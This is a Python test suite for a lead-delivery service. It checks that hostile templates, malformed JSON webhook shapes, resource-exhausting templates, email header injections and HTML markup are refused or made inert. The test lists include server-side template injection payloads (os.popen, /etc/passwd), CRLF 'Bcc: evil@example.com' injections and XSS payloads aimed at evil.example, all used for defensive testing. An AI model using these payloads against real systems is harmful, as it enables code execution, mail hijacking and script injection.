"""Hostile subjects, bodies and payload shapes: refused when saved and at send, or harmless on the wire.

Each goes through the form, and then past it to the channels, as a row would that was edited elsewhere.
"""

import email
import email.policy
import json
import re
from collections.abc import Callable
from contextlib import suppress
from email.message import Message as Mail
from typing import Any

import pytest

from delivery.channels.base import Configuration, Lettering
from delivery.channels.email import EmailChannel
from delivery.channels.webhook import WebhookChannel
from partners.admin.mapping import SHOWN, EntityForm
from partners.kinds.webhook import WebhookConfig
from partners.sheet import Cell, Column
from tests.delivery import letters, test_webhook
from tests.delivery.bounded import MIB, bounded
from tests.delivery.test_hostile_email import HEADERS

COLUMNS = (
    Column("first_name", "First name", "text"),
    Column("interests", "Interests", "multi_select"),
    Column("amount", "Amount", "number"),
    Column("address", "Address", "address"),
    Column("score", "Score", "text"),
)
TICKS = ["first_name", "interests", "amount", "address.city"]
# By the words that say why.
REFUSED = {
    "A dot stands only in lead.field": [
        "{{ ''.__class__ }}",
        "{{ [].__class__.__base__ }}",
        "{{ lead.address.city.__class__ }}",
        "{% for x in [1] %}{{ loop.index }}{% endfor %}",
    ],
    "not known here": [
        "{{ self }}",
        "{{ config }}",
        "{{ request }}",
        "{{ settings }}",
        "{{ __builtins__ }}",
        "{{ x if x else y }}",
        "{{ lеad }}",
    ],
    "no field lead.": [
        "{{ lead.__class__ }}",
        "{{ lead.__init__ }}",
        "{{ lead.__init__.__globals__ }}",
        "{{ lead.pk }}",
        "{{ lead.sealed_values }}",
        "{{ lead.first_name.password }}",
        "{{ lead.ſcore }}",
        "{{ lead.ｓcore_ }}",
        "{{ lead._state.db }}",
        "{{ lead.partner }}",
    ],
    "not ticked for this partner": [
        "{{ lead.score }}",
        "{% if lead.score %}yes{% endif %}",
        "{% if false %}{{ lead.score }}{% endif %}",
        "{{ 'a' if lead.score == 'x' else 'b' }}",
        "{{ [1, lead.score]|tojson }}",
        "{{ lead.first_name|replace('a', lead.score) }}",
        "{{ lead.address.street }}",
    ],
    "Name a field of the lead": ["{{ lead }}", "{{ lead|tojson }}", "{% for x in lead %}{{ x }}{% endfor %}"],
    "is not part of the template language": [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ lead['score'] }}",
        "{{ lead.first_name['__class__'] }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ range(1000000000) }}",
        "{{ lipsum(n=100000) }}",
        "{{ 'a' * 1000000000 }}",
        "{{ 9 ** 9 ** 9 }}",
        "{{ '%1000000000d' % 1 }}",
        "{{ '{:>1000000000}'.format(1) }}",
        "{{ ('a'.join)(lead.interests) }}",
        "{% set x = 'a' %}{{ x }}",
        "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}",
        "{% extends 'admin/base.html' %}",
        "{% block a %}{{ self.a() }}{% endblock %}",
        "{% filter upper %}a{% endfilter %}",
        "{% call lead() %}{% endcall %}",
    ],
    "There is no filter": [
        "{{ lead|attr('score') }}",
        "{{ lead.first_name|safe }}",
        "{{ lead.first_name|format(1) }}",
        "{{ lead.first_name|center(1000000000) }}",
        "{{ lead.interests|map('attr', 'x') }}",
        "{{ lead.first_name|" + "x" * 60_000 + " }}",
    ],
    "Loops stand at most 2 deep": [
        "".join(f"{{% for x{level} in lead.interests %}}" for level in range(9)) + "a" + "{% endfor %}" * 9,
    ],
    "nested too deeply": [
        "{{ " + "(" * 20_000 + "1" + ")" * 20_000 + " }}",
        "{{ " + "[" * 20_000 + "]" * 20_000 + " }}",
        "{{ " + "not " * 10_000 + "1 }}",
        "{{ 1" + "|upper" * 5_200 + " }}",
        "{% if 1 %}" * 3_000 + "{% endif %}" * 3_000,
        "{{ 1" + "0" * 50_000 + " }}",
        "{{ 1 }}" * 5_200,
        "{" * 50_000,
    ],
    "cannot be read as a template": [
        "{{ lead.first_name",
        "{% if lead.amount %}",
        "{# never closed",
        "{% raw %}{{ lead.score }}",
        "{% for x in lead.interests %}{% endif %}",
        "{{ '\u202e }}",
        "{{ \x01 }}",
        "{%" * 30_000,
    ],
    "over 64 KiB": ["a" * 65_537, "é" * 32_769],
    "arguments": ["{{ lead.first_name|upper(lead.amount) }}", "{{ lead.amount|round(1, 'x', 3) }}"],
    "precision: ": ["{{ lead.amount|round(1000000000) }}"],
    "length: ": ["{{ lead.first_name|truncate(1000000000) }}"],
    "format: ": ["{{ '2026-01-01'|date('%1000000000Y') }}"],
}
CASES = [(why, source) for why, sources in REFUSED.items() for source in sources]


def form(**texts: str) -> EntityForm:
    data = {"e-ticks": TICKS, **{f"e-{name}": text for name, text in texts.items()}}
    made = EntityForm(data, prefix="e", name="Solar", columns=COLUMNS, saved={})
    made.full_clean()
    return made


def sealed_off(**values: Any) -> tuple[Cell, ...]:
    """The cells of a lead as the engine passes them on: what is not ticked is not there."""
    given = {
        "first_name": "Jane",
        "interests": ["a", "b"],
        "amount": 1.5,
        "address": {"city": "Bonn"},
        **values,
    }
    return tuple(Cell(column.key, column.label, column.type, given[column.key]) for column in COLUMNS[:4])


def lettered(part: str, source: str, **more: Any) -> bytes:
    texts: dict[str, Any] = {part: source}
    return EmailChannel().render(letters.parcel(cells=sealed_off(), **texts, **more)).body


def _body(source: str) -> bytes:
    return lettered("body", source)


def _subject(source: str) -> bytes:
    return lettered("subject", source)


def shaped(shape: str, kind: str = "json", **values: Any) -> bytes:
    config = WebhookConfig("https://crm.example.com/", format=kind)
    one = test_webhook.parcel(config, lettering=Lettering(shape=shape), cells=sealed_off(**values))
    return WebhookChannel().render(one).body


@pytest.mark.parametrize(("why", "source"), CASES, ids=range(len(CASES)))
def test_hostile_template_is_refused_by_the_form_and_at_send(why: str, source: str) -> None:
    shape = json.dumps({"a": source}, ensure_ascii=False)
    with bounded(seconds=5):
        filled = form(body=source, shape=shape)
        if filled.is_valid():
            filled.check_letter(False, html=True)
            filled.check_shape(False, flat=True)
        assert {"body", "shape"} <= filled.errors.keys()
        assert all(len(words) <= SHOWN for words in filled.errors.values())
        if "street" in source:  # of an address only the ticked parts are handed on
            return
        sends: list[tuple[Callable[[str], bytes], str]]
        sends = [(_body, source), (_subject, source), (shaped, shape)]
        for send, given in sends:
            with pytest.raises(Configuration) as caught:
                send(given)
            assert why in caught.value.text or why == "not ticked for this partner"
            assert len(caught.value.text) < 500
            assert caught.value.error_class == "template"


# Refused as a document; the texts are no matter.
DOCUMENTS = {
    "at most 20 deep": ["[" * 30_000, '{"a":' * 10_000, "[" * 21 + "]" * 21],
    "stands in this object already": ['{"a": 1, "a": 2}', '{"a": 1, "\\u0061": 2}'],
    "number is too long": ["[" + "9" * 60_000 + "]", "[1e400]", "[-1e999999999]"],
    "cannot be read as JSON": [
        "[NaN]",
        "[Infinity]",
        "[.5]",
        "[0x10]",
        "// a\n[]",
        "['a']",
        "\ufeff[]",
        "[\u00a01]",
    ],
    "does not end on its line": ['["a\nb"]', '["\\x41"]', '["\x00"]', '["', '["\\ud8"]'],
    "A comma stands before": ["[1,]"],
    "The document ends before this": ["[01]"[:2] + "]]", "{}{}"],
    "A comma or": ["[01]", "[1 2]"],
    "an object or a list": ['"{{ lead.first_name }}"', "1", "null"],
    "cannot be read as a template": ['["{{ \\ud800 }}"]'],
}
ILL_FORMED = [(why, source) for why, sources in DOCUMENTS.items() for source in sources]


@pytest.mark.parametrize(("why", "source"), ILL_FORMED, ids=range(len(ILL_FORMED)))
def test_hostile_document_is_refused_by_the_form_and_at_send(why: str, source: str) -> None:
    with bounded():
        filled = form(shape=source)
        if filled.is_valid():
            filled.check_shape(False, flat=False)
        assert "shape" in filled.errors
        with pytest.raises(Configuration, match=re.escape(why)) as caught:
            shaped(source)
    assert len(caught.value.text) < 500


BIG, MANY = "a" * 65_536, ["x"] * 1_000
BOMBS = [
    "{{ lead.first_name }}" * 3_000,
    "{{ lead.first_name|replace('a', lead.first_name) }}",
    "{{ lead.first_name" + "|replace('a', 'aaaa')" * 30 + " }}",
    "{{ lead.interests|join(lead.first_name) }}",
    "{% for a in lead.interests %}{% for b in lead.interests %}{{ b }}{% endfor %}{% endfor %}",
    "{% for a in lead.interests %}{{ lead.first_name|upper|lower|title|length }}{% endfor %}",
    "{% for a in lead.interests %}" + "{% if a in lead.first_name %}{% endif %}" * 900 + "{% endfor %}",
    "{{ " + " ~ ".join(["lead.first_name"] * 3_000) + " }}",
    "{{ [" + "lead.first_name," * 3_000 + "]|tojson }}",
    "{{ [" + "[lead.first_name,lead.first_name]," * 1_500 + "]|join|length }}",
    "{{ ([" + "[lead.first_name,lead.first_name]," * 1_500 + "] ~ '')|length }}",
    "{{ lead.amount }}" * 4_900,
    "\n{{ lead.amount }}" * 3_500,
    "{{1}}" * 4_900,
]  # fmt: skip


@pytest.mark.parametrize("source", BOMBS, ids=range(len(BOMBS)))
def test_bomb_ends_by_counting(source: str) -> None:
    with bounded(seconds=8):
        form(body=source).check_letter(False, html=True)
        with suppress(Configuration):
            assert len(shaped(_each(source), first_name=BIG, interests=MANY)) < MIB
        with suppress(Configuration):
            assert len(lettered("body", source, html=True)) < 2 * MIB


def _each(source: str) -> str:
    """A document of as many texts as there is room for."""
    return "[" + ",".join([json.dumps(source)] * max(1, 64_000 // (len(source) + 9))) + "]"


LINES = [
    "New\r\nBcc: evil@example.com",
    "New\nBcc: evil@example.com\n\n<script>alert(1)</script>",
    "{{ '\\r\\nBcc: evil@example.com' }}",
    "{{ 'a'|replace('a', '\\nBcc: evil@example.com') }}",
    "{{ lead.interests|join('\\r\\n') }}",
    "\x0bBcc:\x85x\u2028y\u2029z",
    "=?utf-8?q?=0D=0ABcc:_evil=40example.com?=",
    "{{ '\u202e' }}\u2066{{ lead.first_name }}",
    "ü" * 30_000,
    "x" * 60_000,
    "{% if false %}never{% endif %}",
]


@pytest.mark.parametrize("source", LINES, ids=range(len(LINES)))
def test_hostile_subject_is_one_line(source: str) -> None:
    with bounded():
        data = lettered("subject", source)
    head = data.partition(b"\r\n\r\n")[0]
    found = email.message_from_bytes(data, policy=email.policy.default)
    assert set(found.keys()) <= HEADERS
    assert len(found.keys()) == len(set(found.keys()))
    assert head.isascii()
    assert max(map(len, head.split(b"\r\n"))) <= 998
    assert found["Subject"].strip()
    assert len(found["Subject"].splitlines()) == 1
    assert len(found["Subject"]) <= 900


MARKUP = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href=\"{{ 'javascript:alert(1)' }}\">x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<svg onload=alert(1)><animate onbegin=alert(1)>",
    "<math><mtext></p><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<iframe src=//evil.example></iframe><object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<style>@import '//evil.example';</style><link rel=stylesheet href=//evil.example>",
    '<p style="background:url(//evil.example);behavior:url(x);color:red">x</p>',
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    "</body></html><!doctype html><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<{{ 'script' }}>alert(1)</{{ 'script' }}>",
    "<p {{ 'onclick=alert(1)' }}>x</p>",
    "<div>" * 4_000,
    "<table><td>" * 900 + "x",
    "<a title='" + "&quot;" * 9_000 + "'>x",
]
ACTIVE = re.compile(
    r"<(?:script|svg|math|iframe|object|embed|form|input|button|style|link|base)\b|<[^>]*\son\w+=|<[^>]*="
    r"\"?(?:javascript|data):|url\(|behavior",
    re.IGNORECASE,
)


@pytest.mark.parametrize("source", MARKUP, ids=range(len(MARKUP)))
def test_hostile_markup_does_nothing(source: str) -> None:
    with bounded(seconds=5):
        data = lettered("body", source, html=True)
    page = _page(email.message_from_bytes(data, policy=email.policy.default))
    assert ACTIVE.search(page.partition("<body>")[2]) is None
    assert page.count("</body>") == 1


@pytest.mark.parametrize("source", ["<b>" * 20_000, "<b x>" * 200, "<p>" * 6_000])
def test_markup_that_costs_much_is_refused(source: str) -> None:
    with bounded(), pytest.raises(Configuration, match="tags"):
        lettered("body", source, html=True)


def _page(letter: Mail) -> str:
    (part,) = [part for part in letter.walk() if part.get_content_type() == "text/html"]
    content = part.get_payload(decode=True)
    assert isinstance(content, bytes)
    return content.decode()


def test_collection_is_as_large_as_it_was() -> None:
    everything = [*CASES, *ILL_FORMED, *BOMBS, *LINES, *MARKUP]
    assert len(everything) == len(set(everything)) >= 130
